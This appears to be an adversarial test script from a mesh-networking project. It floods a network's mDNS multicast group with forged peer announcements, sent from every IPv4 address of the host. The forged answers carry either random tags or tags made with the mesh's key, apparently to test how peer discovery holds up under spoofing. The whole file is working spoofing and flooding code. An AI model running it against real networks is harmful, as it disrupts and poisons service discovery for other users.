/**
 * An attacker's program, run in the namespace of a host: shouts forged mDNS answers from every IPv4 address of that host,
 * which has been given many.
 *
 *     node flood.ts MESH RATE stranger|insider
 *
 * A stranger copies what it hears, with peers and addresses of its own making; an insider knows the mesh's public key as well.
 */
import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { networkInterfaces } from 'node:os'
import { parseIp, parseMeshId, parsePeerId, parsePort } from '@vxmesh/core'
import { languageOf } from '../../packages/gossip/src/libp2p/announcement.ts'

const [meshId = '', rate = '5000', who = 'stranger'] = process.argv.slice(2)
const mesh = parseMeshId(meshId)
if (!mesh.ok) throw new Error(mesh.reason)
const language = languageOf(mesh.value)

const addresses = Object.values(networkInterfaces())
  .flatMap((each) => each ?? [])
  .filter(({ family, internal }) => family === 'IPv4' && !internal)
  .map(({ address }) => address)
const sockets = await Promise.all(addresses.map(async (address) => open(address)))

async function open(address: string) {
  const socket = createSocket({ type: 'udp4', reuseAddr: true })
  await new Promise<void>((resolve) => {
    socket.bind(5353, address, () => {
      socket.setMulticastInterface(address)
      resolve()
    })
  })
  return socket
}

/** An answer about a peer that there is not, at an address of this network. */
function forged(): Uint8Array {
  const letters = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
  const peer = parsePeerId(`12D3KooW${[...randomBytes(44)].map((byte) => letters[byte % letters.length]).join('')}`)
  const base = (addresses[0] ?? '').split('.').slice(0, 3).join('.')
  const address = parseIp(`${base}.${String(1 + Math.floor(Math.random() * 254))}`)
  const port = parsePort(1 + Math.floor(Math.random() * 65_535))
  if (!peer.ok || !address.ok || !port.ok) throw new Error('made wrongly')
  const answer = language.answer({ peer: peer.value, at: { address: address.value, port: port.value } })
  // The tag comes last.
  if (who === 'stranger')
    answer.set(
      randomBytes(8).map((byte) => 65 + (byte % 26)),
      answer.length - 8,
    )
  return answer
}

/** Made before they are needed: what is shouted again is new to nobody, but every one is heard and weighed anew. */
const packets = Array.from({ length: 4096 }, forged)

let sent = 0
let last = performance.now()
setInterval(() => {
  const now = performance.now()
  // Who was kept from sending does not make up for it: no more than a tenth of a second at once.
  const due = Math.round((Math.min(now - last, 100) / 1000) * Number(rate))
  last = now
  for (let count = 0; count < due; count++, sent++)
    sockets[sent % sockets.length]?.send(packets[sent % packets.length] ?? '', 5353, '224.0.0.251')
}, 5)
setInterval(() => console.log(`sent ${String(sent)}`), 1000)
